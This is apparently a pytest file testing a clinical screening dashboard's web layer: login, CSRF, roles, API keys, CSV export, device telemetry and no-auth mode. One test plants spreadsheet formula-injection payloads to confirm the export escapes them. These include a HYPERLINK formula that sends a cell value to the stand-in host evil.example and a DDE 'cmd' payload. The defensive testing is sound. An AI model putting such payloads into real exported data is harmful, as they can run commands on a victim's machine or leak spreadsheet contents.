"""The web side over real HTTP (uvicorn on a free port): login, sessions, CSRF, the
read-only role, API keys, CSV export and --no-auth."""

from __future__ import annotations

import csv
import http.cookiejar
import io
import json
import re
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager

import pytest
import uvicorn
from sqlalchemy import update
from sqlalchemy.orm import Session

from dashboard import auth
from dashboard.db import utc_now
from dashboard.models import Result
from dashboard.store import Batch, FleetStore, Received
from dashboard.web import create_app
from sarco_core.wire import schema
from tests.dashboard_support import (
    health_figures,
    result_payload,
    sqlite_engine,
    status_payload,
    update_outcome,
)
from tests.mqtt_broker import free_port

STAFF_PASSWORD = "correct horse battery"


@contextmanager
def serving(engine, auth_enabled: bool = True) -> Iterator[str]:  # noqa: ANN001
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(create_app(engine, auth_enabled=auth_enabled),
                                           host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 15
    while not server.started:
        assert time.monotonic() < deadline, "uvicorn did not start"
        time.sleep(0.05)
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(10)


class Browser:
    """urllib with cookies, no automatic redirects (so a test sees each 303)."""

    class _NoRedirect(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *args, **kwargs):  # noqa: ANN002, ANN003, ANN201
            return None

    def __init__(self, base: str) -> None:
        self.base = base
        self.jar = http.cookiejar.CookieJar()
        self._opener = urllib.request.build_opener(
            urllib.request.HTTPCookieProcessor(self.jar), self._NoRedirect)

    def request(self, path: str, form: dict | None = None,
                headers: dict | None = None) -> tuple[int, dict, str]:
        data = urllib.parse.urlencode(form).encode() if form is not None else None
        request = urllib.request.Request(self.base + path, data=data, headers=headers or {})
        try:
            with self._opener.open(request, timeout=10) as response:
                return response.status, dict(response.headers), response.read().decode()
        except urllib.error.HTTPError as exc:
            return exc.code, dict(exc.headers), exc.read().decode()

    def login(self, name: str, password: str) -> str:
        """Log in through the form; returns where the answer redirects."""
        _, _, page = self.request("/login")
        csrf = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
        status, headers, _ = self.request("/login", {"username": name, "password": password,
                                                     "csrf": csrf})
        assert status == 303
        return headers["location"]


def _csrf(page: str) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', page).group(1)


@pytest.fixture
def stored(tmp_path):
    """A database with three results and two accounts: (engine, payloads)."""
    engine = sqlite_engine(tmp_path)
    payloads = [result_payload(site=site, device=device, seq=seq, decision=decision,
                               probability=probability, score_logit=0.0)
                for seq, (site, device, decision, probability) in enumerate([
                    ("site-01", "us-001", "sarcopenia", 0.9),
                    ("site-01", "us-001", "no_sarcopenia", 0.1),
                    ("site-02", "us-002", "sarcopenia", 0.7),
                ], 1)]
    FleetStore(engine, "w1").write(Batch(results=[Received(p, utc_now()) for p in payloads]),
                                   utc_now())
    with Session(engine) as session:
        auth.add_user(session, "nurse", "staff", STAFF_PASSWORD)
        auth.add_user(session, "viewer", "readonly", STAFF_PASSWORD)
        session.commit()
    return engine, payloads


def test_password_hashes_verify_only_the_right_password():
    hashed = auth.hash_password(STAFF_PASSWORD)
    assert hashed.startswith("scrypt$") and STAFF_PASSWORD not in hashed
    assert auth.verify_password(STAFF_PASSWORD, hashed)
    assert not auth.verify_password(STAFF_PASSWORD + "x", hashed)
    assert auth.hash_password(STAFF_PASSWORD) != hashed  # salted


def test_login_sessions_csrf_and_roles(stored):
    engine, payloads = stored
    with serving(engine) as base:
        anonymous = Browser(base)
        status, headers, _ = anonymous.request("/")
        assert (status, headers["location"]) == (303, "/login")
        assert anonymous.login("nurse", "wrong password") == "/login?failed=true"

        nurse = Browser(base)
        assert nurse.login("nurse", STAFF_PASSWORD) == "/"
        status, headers, page = nurse.request("/")
        assert status == 200 and "SCR-0001" in page
        assert "default-src 'self'" in headers["content-security-policy"]
        positive = payloads[0]["result_id"]
        follow_up = f"/referrals/{positive}/follow-up"
        assert nurse.request(follow_up, {"csrf": "forged"})[0] == 403
        assert nurse.request(follow_up, {"csrf": _csrf(page)})[0] == 303
        assert "done by nurse" in nurse.request("/")[2]

        viewer = Browser(base)
        viewer.login("viewer", STAFF_PASSWORD)
        page = viewer.request("/")[2]
        assert "Mark referred" not in page
        other = payloads[2]["result_id"]
        assert viewer.request(f"/referrals/{other}/follow-up", {"csrf": _csrf(page)})[0] == 403

        # a login form posted without its cookie (another site's form) is refused
        assert Browser(base).request("/login", {"username": "nurse",
                                                "password": STAFF_PASSWORD,
                                                "csrf": "x"})[0] == 403

        page = nurse.request("/")[2]
        assert nurse.request("/logout", {"csrf": _csrf(page)})[0] == 303
        assert nurse.request("/")[0] == 303  # the session is gone


def test_api_needs_a_valid_key_and_answers_the_summary(stored):
    engine, payloads = stored
    with Session(engine) as session:
        key = auth.create_api_key(session, "registry")
        session.commit()
    with serving(engine) as base:
        client = Browser(base)
        assert client.request("/api/v1/summary")[0] == 401
        assert client.request("/api/v1/summary", headers={"X-API-Key": key + "x"})[0] == 401
        status, _, body = client.request("/api/v1/summary", headers={"X-API-Key": key})
        summary = json.loads(body)
        assert status == 200
        assert summary["results_total"] == 3
        assert summary["devices_online"] == 0
        assert {s["site"] for s in summary["sites"]} == {"site-01", "site-02"}
        referrals = json.loads(client.request("/api/v1/referrals?site=site-02",
                                              headers={"X-API-Key": key})[2])
        assert [r["result_id"] for r in referrals] == [payloads[2]["result_id"]]
        page = json.loads(client.request("/api/v1/results?limit=2",
                                         headers={"X-API-Key": key})[2])
        rest = json.loads(client.request(f"/api/v1/results?after_id={page['next_after_id']}",
                                         headers={"X-API-Key": key})[2])
        assert sorted(r["result_id"] for r in page["results"] + rest["results"]) == \
            sorted(p["result_id"] for p in payloads)
        assert rest["next_after_id"] is None
        spec = json.loads(client.request("/openapi.json")[2])
        assert "/api/v1/summary" in spec["paths"]
        assert spec["components"]["securitySchemes"]["APIKeyHeader"]["name"] == "X-API-Key"
        with Session(engine) as session:
            assert auth.revoke_api_key(session, "registry")
            session.commit()
        assert client.request("/api/v1/summary", headers={"X-API-Key": key})[0] == 401


def test_csv_export_follows_the_filters(stored):
    engine, payloads = stored
    with serving(engine) as base:
        nurse = Browser(base)
        nurse.login("nurse", STAFF_PASSWORD)
        status, headers, body = nurse.request("/export/results.csv?site=site-01")
        assert status == 200 and headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(body)))
        assert sorted(r["result_id"] for r in rows) == sorted(
            p["result_id"] for p in payloads if p["site"] == "site-01")
        referrals = list(csv.DictReader(io.StringIO(nurse.request("/export/referrals.csv")[2])))
        assert sorted(r["screening_id"] for r in referrals) == ["SCR-0001", "SCR-0003"]
        assert nurse.request("/export/results.csv?date_from=2025-13-01")[0] == 400
        assert nurse.request("/export/secrets.csv")[0] == 404
        assert Browser(base).request("/export/results.csv")[0] == 303  # login first


def test_csv_export_defuses_spreadsheet_formulas_but_keeps_numbers(stored):
    engine, payloads = stored
    formulas = {"screening_id": '=HYPERLINK("http://evil.example/?"&A1,"open")',
                "app_version": "@SUM(1+1)", "model_name": "+cmd|' /C calc'!A0",
                "model_sha256": "-2+3", "device": "\tus-001"}
    with Session(engine) as session:
        session.execute(update(Result).where(Result.result_id == payloads[0]["result_id"])
                        .values(probability=-0.5, **formulas))
        session.commit()
    with serving(engine) as base:
        nurse = Browser(base)
        nurse.login("nurse", STAFF_PASSWORD)
        rows = list(csv.DictReader(io.StringIO(nurse.request("/export/results.csv")[2])))
    row = next(r for r in rows if r["result_id"] == payloads[0]["result_id"])
    assert {name: row[name] for name in formulas} == {
        name: "'" + text for name, text in formulas.items()}
    assert row["probability"] == "-0.5" and row["usable_frames"] == "80"


def test_no_auth_mode_opens_everything_and_says_so(stored):
    engine, payloads = stored
    with serving(engine, auth_enabled=False) as base:
        client = Browser(base)
        status, _, page = client.request("/")
        assert status == 200 and "Authentication is OFF" in page
        assert client.request("/api/v1/summary")[0] == 200
        # still no cross-site posts: the form token is required
        positive = payloads[0]["result_id"]
        assert client.request(f"/referrals/{positive}/follow-up", {})[0] == 403


def test_api_gives_device_health_and_its_recent_history_typed(stored):
    engine, _ = stored
    now = time.time()
    statuses = [status_payload("site-01", "us-001", "online", at=now - age,
                               health=health_figures(temp_max_c=temp), update=update_outcome())
                for age, temp in ((60, 80.0), (30, 90.0))]
    FleetStore(engine, "w1").write(Batch(statuses=[Received(p, utc_now()) for p in statuses]),
                                   utc_now())
    with Session(engine) as session:
        key = auth.create_api_key(session, "monitoring")
        session.commit()
    with serving(engine) as base:
        client = Browser(base)

        def get(path: str):  # noqa: ANN202
            status, _, body = client.request(path, headers={"X-API-Key": key})
            return status, json.loads(body)

        devices = {d["device"]: d for d in get("/api/v1/devices")[1]}
        device = devices["us-001"]
        assert device["telemetry"]["temp_max_c"] == 90.0  # the newest status
        assert device["telemetry"]["ram_total_mb"] == 7620
        assert device["update"]["outcome"] == "installed"
        assert device["issues"] == [f"hot ({90.0:.0f} °C)"]
        assert devices["us-002"]["telemetry"] is None  # seen through its results only
        status, history = get("/api/v1/devices/site-01/us-001/telemetry?hours=1")
        assert status == 200 and [h["temp_max_c"] for h in history] == [80.0, 90.0]
        assert get("/api/v1/devices/site-01/us-999/telemetry")[0] == 404
        assert get("/api/v1/devices/site-01/us-001/telemetry?hours=48")[0] == 422
        schemas = get("/openapi.json")[1]["components"]["schemas"]
        assert schemas["Telemetry"]["properties"]["temp_max_c"]["anyOf"][0]["type"] == "number"
        assert schemas["ModelUpdate"]["properties"]["outcome"]["enum"] == list(
            schema.UPDATE_OUTCOMES)
        nurse = Browser(base)
        nurse.login("nurse", STAFF_PASSWORD)
        page = nurse.request("/")[2]
        row = re.search(r'<tr class="warn" data-device="us-001">.*?</tr>', page, re.DOTALL)
        assert row and "90 °C" in row.group(0) and "hot (90 °C)" in row.group(0)
